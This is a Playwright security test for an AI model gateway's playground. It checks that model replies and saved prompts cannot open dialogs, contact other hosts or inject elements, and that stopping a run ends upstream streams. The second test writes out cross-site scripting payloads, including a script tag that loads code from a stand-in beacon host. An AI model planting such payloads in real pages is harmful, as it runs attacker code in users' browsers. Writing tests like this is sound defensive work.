import { expect, test, type Page } from '@playwright/test';
import type { RunningTollgate } from '../support/start-tollgate';
import { BEACON, HOSTILE_TEXTS } from './hostile-texts';
import { openPalette } from './open-palette';
import { startProduct } from './product';
import { addModel, startScriptedModel, type ScriptedModel } from './scripted-model';
import { signIn } from './sign-in';

let tollgate: RunningTollgate;
let hostile: ScriptedModel;
let slow: ScriptedModel;
test.beforeAll(async () => {
  test.setTimeout(300_000);
  [hostile, slow] = await Promise.all([startScriptedModel(), startScriptedModel(50)]);
  tollgate = await startProduct({ TOLLGATE_EGRESS_ALLOW: '127.0.0.0/8' });
  await addModel(tollgate, 'hostile', hostile);
  await addModel(tollgate, 'slow', slow);
});
test.afterAll(async () => {
  await tollgate.remove();
  await Promise.all([hostile.close(), slow.close()]);
});

/** Dialogs that opened and requests that left for elsewhere, from now on. */
async function escapesOf(page: Page): Promise<string[]> {
  const escapes: string[] = [];
  page.on('dialog', (dialog) => {
    escapes.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.context().route(
    (url) => url.host !== new URL(tollgate.url).host,
    (route) => {
      escapes.push(`request: ${route.request().url()}`);
      return route.abort();
    },
  );
  page.context().on('page', (opened) => escapes.push(`page: ${opened.url()}`));
  return escapes;
}

async function ask(page: Page, models: readonly string[], prompt: string): Promise<void> {
  await page.goto(`${tollgate.url}/playground?workspace=main`);
  await page.getByRole('button', { name: 'Remove column 3' }).click();
  for (const [at, model] of models.entries())
    await page.getByLabel(`Model of column ${at + 1}`).selectOption(model);
  await page.getByRole('textbox', { name: 'Message 1' }).fill(prompt);
  await page.getByRole('button', { name: 'Run', exact: true }).click();
}

test('nothing that a model writes opens a dialog, calls elsewhere or links to a script', async ({ page }) => {
  test.setTimeout(180_000);
  await signIn(page, tollgate);
  const escapes = await escapesOf(page);
  // All at once, and cut at every place that a stream may be cut at; then each by itself, where nothing else shields it.
  hostile.say = [...HOSTILE_TEXTS.join('\n\n')]
    .map((_, at, all) => all.slice(at * 7, at * 7 + 7).join(''))
    .filter(Boolean);
  await ask(page, ['hostile', 'hostile'], HOSTILE_TEXTS.join('\n'));
  const answers = page.locator('[data-answer]');
  await expect(page.getByText('Done', { exact: true })).toHaveCount(2);
  for (const text of HOSTILE_TEXTS) {
    hostile.say = [text];
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeVisible();
    await expect(page.getByText('Done', { exact: true })).toHaveCount(2);
    const hrefs = await answers
      .locator('a')
      .evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));
    for (const href of hrefs) expect(href, text).toMatch(/^(https?|mailto):/);
    const foreign =
      'script, img, svg, iframe, object, embed, form, style, link, base, meta, video, input, math';
    await expect(answers.locator(foreign), text).toHaveCount(0);
  }
  expect(escapes).toEqual([]);
});

test('nothing that people save does either, where it is listed and found', async ({ page }) => {
  await signIn(page, tollgate);
  const escapes = await escapesOf(page);
  for (const text of ['<img src=x onerror=alert(1)>', `"><script src=//${BEACON}/x.js></script>`]) {
    await ask(page, ['hostile', 'hostile'], text);
    await page.getByLabel('System').fill(text);
    await page.getByLabel('Name of the prompt').fill(text);
    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await expect(page.getByText('Saved.')).toBeVisible();
    await page.reload();
    await expect(page.getByRole('link', { name: text })).toBeVisible();
    await openPalette(page);
    await expect(page.getByRole('option', { name: text })).toBeVisible();
  }
  expect(escapes).toEqual([]);
});

test('Stop, and leaving the page, end the answers at the provider', async ({ page }) => {
  await signIn(page, tollgate);
  slow.say = Array.from({ length: 2_000 }, (_, at) => `word${at} `);
  await ask(page, ['slow', 'slow'], 'Go on for long.');
  await expect(page.getByText('word3 ').first()).toBeVisible();
  expect(slow.open).toBe(2);
  await page.getByRole('button', { name: 'Stop' }).click();
  await expect(page.getByText('Stopped', { exact: true })).toHaveCount(2);
  await expect.poll(() => slow.hungUp).toBe(2);
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect.poll(() => slow.open).toBe(2);
  await page.getByRole('link', { name: 'Requests', exact: true }).click();
  await expect.poll(() => slow.hungUp).toBe(4);
});
